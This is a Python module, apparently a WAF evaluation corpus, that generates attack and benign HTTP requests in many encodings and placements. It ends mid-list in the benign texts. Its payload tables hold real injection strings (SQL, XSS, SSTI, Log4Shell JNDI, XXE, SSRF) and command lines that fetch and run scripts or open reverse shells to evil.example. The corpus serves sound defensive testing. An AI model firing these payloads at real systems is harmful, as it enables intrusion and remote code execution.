# ruff: noqa: E501  (payload and text tables: one realistic string per line)
"""An evaluation corpus for the WAF rule pack: attacks and benign traffic, as requests.

Attacks: payloads of every category the default pack covers, each encoded (plain, URL,
double URL, Base64, JS-escaped) and placed (query, path, header, User-Agent, cookie, JSON,
form, multipart, XML) the way real tools send them; combinations a client cannot send (a raw
newline in a header) are skipped. Benign: ordinary pages, searches, form posts, JSON APIs,
uploads and SOAP calls, written to contain the words and characters naive rules trip on
("select", "union", "script", "or 1", "echo", "curl", O'Brien, code snippets, Markdown, HTML).

`attack_requests()` / `benign_requests()` return `CorpusRequest`s; `inspection()` turns one into
the WAF's `Inspection` exactly as the proxy would (normalized path, raw query, headers, body).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, quote_plus
from xml.sax.saxutils import escape as xml_escape

from openflare.config.models import NormalizationConfig
from openflare.pipeline.normalize import PathRejected, normalize_path
from openflare.waf.targets import Inspection

BROWSER_HEADERS = [
    ("Host", "shop.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
    ),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
    ("Sec-CH-UA-Platform", '"Windows"'),
    ("Sec-Fetch-Site", "same-origin"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Upgrade-Insecure-Requests", "1"),
]
ATTACK_BASE_HEADERS = [
    ("Host", "shop.example.com"),
    ("User-Agent", "python-requests/2.32.3"),
    ("Accept", "*/*"),
]


@dataclass
class CorpusRequest:
    label: str  # category for attacks, scenario for benign
    placement: str
    encoding: str
    method: str
    target: str  # raw request target: path and query as sent
    headers: list[tuple[str, str]]
    body: bytes = b""
    payload: str = ""
    notes: dict[str, str] = field(default_factory=dict)


def inspection(request: CorpusRequest) -> Inspection | None:
    """The request as the WAF stage sees it; None when normalization would answer 400."""
    raw_path, _, query = request.target.partition("?")
    try:
        path = normalize_path(raw_path, NormalizationConfig())
    except PathRejected:
        return None
    headers = list(request.headers)
    if request.body and not any(n.lower() == "content-length" for n, _ in headers):
        headers.append(("Content-Length", str(len(request.body))))
    return Inspection(
        method=request.method,
        raw_target=request.target,
        path=path,
        query=query,
        headers=headers,
        client_ip="203.0.113.7",
        body=request.body or None,
        body_size=len(request.body),
    )


# ---------------------------------------------------------------------------------- payloads

SQLI = [
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR "1"="1',
    "admin'--",
    "admin' #",
    "admin'/*",
    "1' OR '1'='1' /*",
    "1 OR 1=1",
    "1' AND 1=1--",
    "' UNION SELECT NULL,NULL--",
    "1 UNION ALL SELECT username,password FROM users--",
    "-1' UNION SELECT 1,@@version,3#",
    "1'; DROP TABLE users--",
    "1; DELETE FROM users",
    "'; EXEC xp_cmdshell('dir')--",
    "1' AND SLEEP(5)--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND BENCHMARK(5000000,MD5(1))--",
    "1; SELECT pg_sleep(5)--",
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
    "' AND updatexml(1,concat(0x7e,user()),1)--",
    "1' ORDER BY 10--",
    "1' GROUP BY 1,2,3--+",
    "' HAVING 1=1--",
    "' OR 'a'='a",
    "') OR ('1'='1",
    "1)) OR ((1=1",
    "' OR 1=1 LIMIT 1 -- -",
    "admin' or '1'='1'#",
    "' or ''='",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1' and load_file('/etc/passwd')--",
    "' INTO OUTFILE '/var/www/shell.php'--",
    "1' || '1'='1",
    "1 or sleep(5)#",
    "' OR 1 -- -",
    "1' and '1'='2",
    "1'/**/OR/**/1=1",
    "1 UNION/**/SELECT/**/password/**/FROM/**/users",
    "1' AnD 1=1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2--",
    "' or true--",
    "') or true--",
    "1 AND 1=2 UNION SELECT 1,2,3",
    "' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "1;SELECT * FROM users",
    "' OR EXISTS(SELECT * FROM users)--",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
    "admin')--",
    "1 or 1=1",
    "x' AND email IS NULL; --",
    "23 OR 1=1",
    "' or 1 in (select @@version)--",
    "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users),1,1))>64",
    "1' AND 'x'='x",
    "1 AND 5=5",
    "1) AND (5=5",
    "admin' AND 1=1#",
    "1' WAITFOR DELAY '00:00:05'--",
    "IF(1=1,SLEEP(5),0)",
    "' OR 'x'='x",
    "%' OR '1'='1",
    "' or 1=1 or ''='",
    "x' or 1=1 or 'x'='y",
    "')) or (('x'))=(('x",
    '") or ("a"="a',
    "' or username like '%",
    "1' or '1'='1';",
    "';exec master..xp_cmdshell 'ping 10.10.1.2'--",
    "(select(0)from(select(sleep(5)))v)",
    "'+(select*from(select(sleep(5)))a)+'",
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "1 AND (SELECT 1 FROM dual WHERE 1=1)",
    "' AND MID(VERSION(),1,1) = '5';",
    "' ; shutdown--",
    "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;",
    "-1 UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()",
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))--",
]
XSS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=prompt(1)>",
    "<body onload=alert('XSS')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(document.domain)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<div style="background:url(javascript:alert(1))">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit>",
    '<base href="javascript:alert(1)//">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "';alert(String.fromCharCode(88,83,83))//",
    "</script><script>alert(1)</script>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '"-alert(1)-"',
    "<x onclick=alert(1)>click",
    "data:text/html,<script>alert(1)</script>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<audio src=1 onerror=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<iframe src=javascript&colon;alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert&lpar;1&rpar;>",
    '"><svg/onload=confirm(1)>',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    '<img src="x" onerror="&#x61;lert(1)">',
    "<<script>alert(1);//<</script>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>',
    "<input type=image src=1 onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "/etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "/proc/self/environ",
    "C:\\boot.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "..%c0%af..%c0%afetc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "zip://shell.jpg#shell.php",
    "phar://uploads/avatar.jpg/shell",
    "expect://id",
    "/var/log/apache2/access.log",
    "../../../../../../../../boot.ini%00",
    "..;/..;/etc/passwd",
    "../../../../../../var/www/html/wp-config.php",
    "../WEB-INF/web.xml",
    "../../.ssh/id_rsa",
    "/..\\..\\..\\..\\etc/passwd",
    "..././..././..././etc/passwd",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%5c..%5c..%5cboot.ini",
    "%252e%252e%255c%252e%252e%255cboot.ini",
    "..%u2215..%u2215etc%u2215passwd",
    "%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd",
    "..//..//..//etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    "/static/../../../../etc/hosts",
    "....\\\\....\\\\windows\\\\win.ini",
]
RCE = [
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& ls -la",
    "`id`",
    "$(whoami)",
    "; uname -a",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "; wget http://evil.example/shell.sh -O /tmp/s; sh /tmp/s",
    "; curl http://evil.example/x | bash",
    "$(curl -s http://evil.example/x.sh|sh)",
    ";/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "; ping -c 10 127.0.0.1",
    "& ping -n 10 127.0.0.1 &",
    "| type C:\\windows\\win.ini",
    "cmd.exe /c dir",
    ";${IFS}cat${IFS}/etc/passwd",
    ";c'a't /e't'c/pa's'swd",
    "127.0.0.1; ls",
    "127.0.0.1 && cat /etc/shadow",
    "`sleep 5`",
    ";sleep 5;",
    "$(sleep 5)",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\";'",
    ";/usr/bin/id",
    "\nid",
    "\nwhoami\n",
    "a;w\\ho\\am\\i",
    "x|{cat,/etc/passwd}",
    "; powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
    "& net user hacker P@ss /add",
    "; rm -rf /tmp/x",
    "| bash -c 'id'",
    ";echo $((40+2))",
    "|echo vulnerable",
    "\necho vuln",
    "$(echo TEST)",
    "&echo TEST&",
    ";sleep${IFS}5",
    "||ping -c 5 127.0.0.1||",
    "a|id|",
    "%0Aid",
    "1;id",
    "; nslookup evil.example",
    "| ifconfig",
    "& whoami",
    "`cat /etc/passwd`",
]
PHP = [
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "<?= `id` ?>",
    "phpinfo()",
    "system('id')",
    "eval($_POST['x'])",
    "passthru('ls -la')",
    "assert($_REQUEST['a'])",
    "${@print(md5(1))}",
    'O:8:"stdClass":1:{s:4:"test";s:4:"data";}',
    'a:2:{i:0;s:4:"test";i:1;s:4:"data";}',
    "file_put_contents('shell.php', base64_decode('PD9waHAgc3lzdGVtKCRfR0VUW2NdKTsgPz4='))",
    "include($_GET['page'])",
    "call_user_func('system','id')",
    "eval(base64_decode('ZWNobyAnaGknOw=='))",
    "preg_replace('/.*/e','system(\"id\")','')",
    "<?php $s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
]
JAVA = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://evil.example:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "${jndi:dns://evil.example}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.version}",
    'java.lang.Runtime.getRuntime().exec("id")',
    'new java.lang.ProcessBuilder("id").start()',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String">',
    'Class.forName("java.lang.Runtime")',
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${j${::-n}di:ldap://x.example/a}",
]
SSTI = [
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "*{7*7}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process')"
    ".execSync('id')\")()}}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{php}echo `id`;{/php}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    "{{constructor.constructor('alert(1)')()}}",
    "<%= system('id') %>",
    "{{4*4}}[[5*5]]",
    "${{7*7}}",
    "{{dump(app)}}",
    "{{app.request.server.all|join(',')}}",
    "{{''.__class__.mro()[1].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
]
SSI = [
    '<!--#exec cmd="id" -->',
    '<!--#include virtual="/etc/passwd" -->',
    '<!--#echo var="DOCUMENT_ROOT" -->',
    "<!--#printenv -->",
    '<!--#config timefmt="%D" -->',
    '<!--#include file="../../etc/passwd"-->',
    '<!--#exec cgi="/cgi-bin/test.cgi"-->',
    '<!--#set var="x" value="y" -->',
]
SSRF = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:22",
    "http://localhost/admin",
    "http://0.0.0.0:8080",
    "http://[::1]/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://127.1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://localhost.localdomain/",
    "http://169.254.169.254.nip.io/",
    "http://user@127.0.0.1:8080/",
    "http://2852039166/latest/meta-data/",
    "https://localhost:8443/actuator/env",
    "http://0177.0.0.1/",
    "http://[::ffff:7f00:1]/",
    "http://127.0.0.1.nip.io/",
    "http://localtest.me/",
    "http://①②⑦.⓪.⓪.①/",
    "http://0/",
    "http://127.000.000.001/",
]
NOSQL_VALUES = [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "this.password.length > 0"}',
    "' || '1'=='1",
    "'; return true; var x='",
    '{"$regex": "^adm"}',
    "db.users.find()",
    "'; sleep(5000); var x='",
    "' && this.password.match(/.*/)//",
    '{"$or": [{}, {"a": "a"}]}',
    "', $where: '1 == 1",
    "true, $where: '1 == 1'",
    "'||1==1//",
    "db.injection.insert({success:1});",
    '{"username": {"$in": ["admin"]}}',
]
LDAP = [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "*)(|(objectclass=*)",
    "admin*)((|userPassword=*)",
    "*)(&(objectClass=user)(cn=*",
    "x)(|(cn=*)",
    "(|(mail=*)(cn=*))",
    "*))%00",
    "admin)(!(&(1=0",
]
MAIL = [
    "victim@example.com\nCc: attacker@evil.example",
    "user@example.com\r\nBcc: spam@evil.example",
    "test@test.example\r\nSubject: hacked",
    "from@x.example\nTo: a@b.example",
    "x\r\nRCPT TO:<evil@evil.example>",
    "x\r\nDATA\r\nspam\r\n.\r\n",
    "INBOX\r\nA002 DELETE INBOX",
    "x\r\nMAIL FROM:<a@b.example>",
    "me@x.example\r\nContent-Type: text/html",
    '"INBOX"\r\na1 LOGIN admin secret',
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<foo>&xxe;</foo>",
    '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
    'href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "expect://id">]><data>&file;</data>',
]
CRLF = [
    "%0d%0aSet-Cookie:crlf=injection",
    "\r\nLocation: http://evil.example",
    "%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1 200 OK",
    "\u560a\u560dSet-Cookie:x=1",
    "\r\nX-Injected: 1",
    "%0aSet-Cookie: a=b",
    "%0d%0a%0d%0a<script>alert(1)</script>",
    "/redirect?x=%0d%0aLocation:%20https://evil.example",
    "%0d%0a%20Set-Cookie:x=1",
    "%23%0dSet-Cookie:x=1",
    "%u000ASet-Cookie:x=1",
    "%3f%0dSet-Cookie:x=1",
    "\r\n\tSet-Cookie: a=b",
]
SCANNER_AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)",
    "w3af.org",
    "Arachni/v1.5.1",
    "commix/v3.8 (https://commixproject.com)",
    "feroxbuster/2.10.0",
    "Mozilla/5.0 (compatible; WhatWeb/0.5.5)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Havij)",
]

CATEGORIES: dict[str, list[str]] = {
    "sqli": SQLI,
    "xss": XSS,
    "traversal": TRAVERSAL,
    "rce": RCE,
    "php": PHP,
    "java": JAVA,
    "ssti": SSTI,
    "ssi": SSI,
    "ssrf": SSRF,
    "nosql": NOSQL_VALUES,
    "ldap": LDAP,
    "mail": MAIL,
    "xxe": XXE,
    "crlf": CRLF,
}
PARAM = {"ssrf": "url", "traversal": "file", "mail": "email"}


# ---------------------------------------------------------------------------------- encodings


def _js_escape(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in text)


def _js_hex(text: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"\\x{ord(c) & 0xFF:02x}" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ENCODINGS = {
    "plain": lambda p: p,
    "url": lambda p: quote(p, safe=""),
    "double_url": lambda p: quote(quote(p, safe=""), safe=""),
    "base64": _b64,
    "js": _js_escape,
    "js_hex": _js_hex,
}


def _header_safe(value: str) -> str | None:
    """A value a client can put in a header, or None."""
    if any(ord(c) < 0x20 or ord(c) > 0xFF for c in value):
        return None
    return value


# ---------------------------------------------------------------------------------- placements


def _place(category: str, placement: str, value: str) -> CorpusRequest | None:
    name = PARAM.get(category, "q")
    headers = list(ATTACK_BASE_HEADERS)
    if placement == "query":
        return CorpusRequest(
            category, placement, "", "GET", f"/search?{name}={quote_plus(value)}&page=1", headers
        )
    if placement == "path":
        return CorpusRequest(
            category, placement, "", "GET", "/products/" + quote(value, safe="/"), headers
        )
    if placement in ("header", "user_agent", "cookie"):
        if placement == "cookie":
            cookie_value = quote(value, safe="") if any(c in value for c in ";, ") else value
            safe = _header_safe(cookie_value)
            if safe is None:
                return None
            headers.append(("Cookie", f"session=7f3a9c; pref={safe}"))
        else:
            safe = _header_safe(value)
            if safe is None:
                return None
            if placement == "user_agent":
                headers = [(n, v) for n, v in headers if n != "User-Agent"]
                headers.append(("User-Agent", safe))
            else:
                header = {"ssrf": "X-Callback-Url", "traversal": "X-File"}.get(
                    category, "X-Forwarded-Host" if category == "crlf" else "X-Api-Data"
                )
                headers.append((header, safe))
        return CorpusRequest(category, placement, "", "GET", "/account", headers)
    if placement == "json":
        body = json.dumps({name: value, "lang": "en"}).encode()
        headers.append(("Content-Type", "application/json"))
        return CorpusRequest(category, placement, "", "POST", "/api/items", headers, body)
    if placement == "form":
        body = f"{name}={quote_plus(value)}&submit=Send".encode()
        headers.append(("Content-Type", "application/x-www-form-urlencoded"))
        return CorpusRequest(category, placement, "", "POST", "/submit", headers, body)
    if placement == "multipart":
        boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
        body = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            f'{value}\r\n--{boundary}\r\nContent-Disposition: form-data; name="submit"\r\n\r\n'
            f"Send\r\n--{boundary}--\r\n"
        ).encode()
        headers.append(("Content-Type", f"multipart/form-data; boundary={boundary}"))
        return CorpusRequest(category, placement, "", "POST", "/submit", headers, body)
    if placement == "xml":
        if category == "xxe" and value.lstrip().startswith("<"):
            body = value.encode()
        else:
            body = f"<request><{name}>{xml_escape(value)}</{name}></request>".encode()
        headers.append(("Content-Type", "application/xml"))
        return CorpusRequest(category, placement, "", "POST", "/api/items", headers, body)
    raise ValueError(placement)


PLACEMENTS = ("query", "path", "header", "user_agent", "cookie", "json", "form", "multipart", "xml")


def attack_requests() -> Iterator[CorpusRequest]:
    for category, payloads in CATEGORIES.items():
        for payload in payloads:
            for encoding, encode in ENCODINGS.items():
                if encoding == "js_hex" and category not in ("xss", "sqli", "rce"):
                    continue
                value = encode(payload)
                for placement in PLACEMENTS:
                    request = _place(category, placement, value)
                    if request is None:
                        continue
                    request.encoding = encoding
                    request.payload = payload
                    yield request
    for agent in SCANNER_AGENTS:
        yield CorpusRequest(
            "scanner",
            "user_agent",
            "plain",
            "GET",
            "/",
            [("Host", "shop.example.com"), ("User-Agent", agent)],
            payload=agent,
        )
    yield from _protocol_attacks()


def _protocol_attacks() -> Iterator[CorpusRequest]:
    base = list(ATTACK_BASE_HEADERS)
    cases: list[tuple[str, str, str, list[tuple[str, str]], bytes]] = [
        ("TRACE", "/", "trace", [], b""),
        ("TRACK", "/", "track", [], b""),
        ("DEBUG", "/", "debug", [], b""),
        (
            "POST",
            "/submit",
            "cl+te",
            [("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
            b"a=1",
        ),
        ("POST", "/submit", "te-obfuscated", [("Transfer-Encoding", "xchunked")], b"a=1"),
        ("POST", "/submit", "te-list", [("Transfer-Encoding", "chunked, identity")], b"a=1"),
        (
            "POST",
            "/submit",
            "double-cl",
            [("Content-Length", "3"), ("Content-Length", "5")],
            b"a=1",
        ),
        ("GET", "/", "get-body", [("Content-Type", "text/plain")], b"hello"),
        (
            "GET",
            "/",
            "range-flood",
            [("Range", "bytes=" + ",".join(f"{i}-{i + 1}" for i in range(0, 60, 2)))],
            b"",
        ),
        ("GET", "/", "host-userinfo", [("Host", "shop.example.com@evil.example")], b""),
        ("GET", "/search?q=%00", "null-byte", [], b""),
        ("GET", "/", "double-host", [("Host", "evil.example")], b""),
        (
            "POST",
            "/api/items",
            "json-invalid+xss",
            [("Content-Type", "application/json")],
            b'{"a": "<script>alert(1)</script>"',
        ),
        ("GET", "/search?q=%G1%", "bad-escape+traversal", [("X-File", "../etc/")], b""),
        (
            "GET",
            "/",
            "x-original-url",
            [("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")],
            b"",
        ),
    ]
    for method, target, name, extra, body in cases:
        headers = [h for h in base if not (name == "host-userinfo" and h[0] == "Host")] + extra
        yield CorpusRequest(
            "protocol", "request", name, method, target, headers, body, payload=name
        )


# ---------------------------------------------------------------------------------- benign

BENIGN_TEXTS = [
    "select a plan that fits your team",
    "Union Station Chicago parking",
    "javascript tutorial for beginners",
    "how to use script tags in html",
    "buy 2 or 1 more for free",
    "Amazon Echo Dot 5th generation",
    "curl command examples",
    "O'Brien",
    "Sinéad O'Connor greatest hits",
    "rock & roll hall of fame",
    "C++ vs C# performance",
    "50% off summer sale",
    "what does 1=1 mean in math",
    "SQL SELECT statement tutorial",
    "the union of two sets",
    "select * from the menu, please",
    "drop table tennis lessons",
    "I can't believe it's not butter",
    "Children's books about cats; dogs and birds",
    "Tom & Jerry; cat and mouse",
    "where is the nearest echo chamber?",
    "Q&A: how do I reset my password?",
    "price < 100 and rating > 4",
    "email me at jane.doe+shop@example.com",
    "https://www.example.com/blog/2024/05/hello-world?utm_source=news",
    "D'Angelo & Sons Ltd.",
    "L'Oréal Paris — crème de jour",
    "Müller-Lüdenscheidt GmbH",
    "東京 ラーメン おすすめ",
    "naïve café résumé",
    "100% cotton t-shirt (size: M)",
    "Is 'or' a conjunction or a preposition?",
    'She said: "select the best one"',
    "I'll be there at 5 o'clock -- promise!",
    "Terms & Conditions apply*",
    "order by price, then by name",
    "Script writing course: from idea to screenplay",
    "The Union Jack and the Stars and Stripes",
    "echo location in bats",
    "using curl to download files from the command line",
    "#hashtag #summer2024",
    "Let's meet @ 10:30",
    "My favourite band is AC/DC",
    "50/50 chance",
    "wait for delay at gate 3",
    "sleep apnea treatment options",
    "password reset for account 12345",
    "id card renewal",
    "cat food; dog food; fish food",
    "shell oil company stock price",
    "python list comprehension examples",
    "who am I? a philosophical question",
    "net user guide pdf",
    "how to type a backslash \\ on a mac keyboard",
    "C:\\Users\\Public\\Documents is where I saved it",
    "The file is in ../shared/docs according to Bob",
    "Use the <b>bold</b> tag for emphasis",
    "x = 5; y = 10; print(x + y)",
    "Dear Sir or Madam, please find attached my CV.",
    "Best regards,\nJohn\n\nP.S. call me",
    "Address: 221B Baker Street\nLondon\nNW1 6XE",
    "Location: second floor, room 204",
    "From: the marketing team\nSubject line ideas for the newsletter",
    "on error resume next is VBA syntax",
    "loading... please wait",
    "AND/OR logic gates explained",
    '"Hello, World!" in 10 languages',
    "1 + 1 = 2",
    "{{ user.name }} is a placeholder in our newsletter",
    "${HOME} is an environment variable",
    "array[0] and dict['key']",
    "it's 10 o'clock; the union meeting is over",
    "Please select: option A or option B",
    "union select committee members 2024",
    "a/b testing results",
    "SELECT your seats before 5pm",
    "I'd like to order 1 or 2 pizzas",
    "He's the 'best' -- according to critics",
    "first_name=Bob&last_name=O'Neil is how the form encodes it",
    "Ünïcödé 🎉 emoji party 🥳",
    "localhost development tips",
    "The metadata of the photo was wrong",
    "Java vs JavaScript: what's the difference?",
    "javascript: the good parts",
    "I love the <3 symbol",
    "2 > 1 and 3 < 4",
    "use the --force flag carefully",
    "Our office is at 10.5 Main St.",
    "Base64 encoding explained",
    "temperature was -5 degrees",
    "rm the old files before release",
    "Mr. Smith; Mrs. Jones; Dr. Who",
    "SELECT/UNION/INSERT are SQL keywords",
    "function onLoad() is called when the page loads",
    "tips for better sleep (5 simple steps)",
    "pipe | separated | values",
    "fish & chips; mushy peas",
    "Run `npm install` and then `npm start`",
    "sudo apt-get install nginx && sudo systemctl start nginx",
    "pip install requests; python app.py",
    "see the docs at https://docs.python.org/3/library/os.html",
    "I'd select the union of both offers or 1 of them",
    "the script ran at 5pm; echo me when done",
    "Kevin O'Leary's union speech",
    "her name is D'Souza and his is N'Golo",
    "a 'quoted' word -- and a dash",
    "The price is $5 (or 1 euro)",
    "function(a, b) { return a || b; }",
    "x == 1 && y == 2",
    "use `git log --oneline` to see history",
